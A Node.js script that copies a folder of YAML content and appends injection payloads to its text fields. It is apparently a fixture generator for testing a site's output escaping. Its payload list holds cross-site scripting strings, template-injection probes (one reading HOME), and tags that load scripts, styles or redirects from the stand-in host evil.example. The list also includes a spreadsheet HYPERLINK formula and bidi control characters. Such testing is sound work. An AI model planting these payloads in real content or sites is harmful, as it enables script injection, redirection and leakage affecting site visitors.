// Makes content that a stranger might propose: node poison.js FROM TO copies a content folder and puts hostile words behind
// those of every field that takes words. Prints how many.

import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What has run as script, left the page or asked another site somewhere before, and template syntax of several engines. */
export const poisons = [
  '<script>alarm(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alarm(1)>',
  '<svg/onload=alarm(1)>',
  '<svg><animate onbegin=alarm(1) attributeName=x dur=1s>',
  '"><script>alarm(1)</script>',
  "' autofocus onfocus='alarm(1)",
  '" autofocus onfocus="alarm(1)" tabindex="0',
  '</title><script>alarm(1)</script>',
  '</textarea></style></noscript><script>alarm(1)</script>',
  '</script><script>alarm(1)</script>',
  '--><script>alarm(1)</script><!--',
  ']]><script>alarm(1)</script>',
  '<iframe srcdoc="<script>parent.alarm(1)</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data=https://evil.example/x></object>',
  '<form action=https://evil.example/><button autofocus>x</button></form>',
  '<details open ontoggle=alarm(1)>',
  '<a href="javascript:alarm(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alarm(1)>',
  '&lt;script&gt;alarm(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alarm(1)&#62;',
  '\\u003cscript\\u003ealarm(1)\\u003c/script\\u003e',
  '{{ 7 * 191 }}',
  '{% for x in range(end=1) %}{{ 7 * 191 }}{% endfor %}',
  '{{ get_env(name="HOME") }}',
  '{{<links to={v} />}}',
  '${alarm(1)}',
  '<%= 7 * 191 %>',
  '=HYPERLINK("https://evil.example/","x")',
  '%3Cscript%3Ealarm(1)%3C/script%3E',
  '\u202ealarm(1)\u2066',
];

/** Fields whose values are words; ids, dates, codes and addresses have their own tests. */
const fields =
  'name|official_name|short_name|legal_name|title|headline|note|notes|definition|description|family|term|headquarters|about|reference|licence|owner|contact';
const word = new RegExp(`^(\\s*(?:- )?(?:${fields}): )(?!["'>|{[&*!])(\\S.*)$`);

const [from, to] = process.argv.slice(2);
if (from && to) {
  cpSync(from, to, { recursive: true });
  let count = 0;
  for (const file of readdirSync(to, { recursive: true }).filter((file) => file.endsWith('.yaml'))) {
    const path = join(to, file);
    const lines = readFileSync(path, 'utf8').split('\n').map((line) => {
      const [, before, words] = word.exec(line) ?? [];
      // Short enough for limits that say so, and each poison meets each kind of field sooner or later.
      return words ? `${before}${JSON.stringify(`${words} ${poisons[count++ % poisons.length]}`)}` : line;
    });
    writeFileSync(path, lines.join('\n'));
  }
  console.log(count);
}
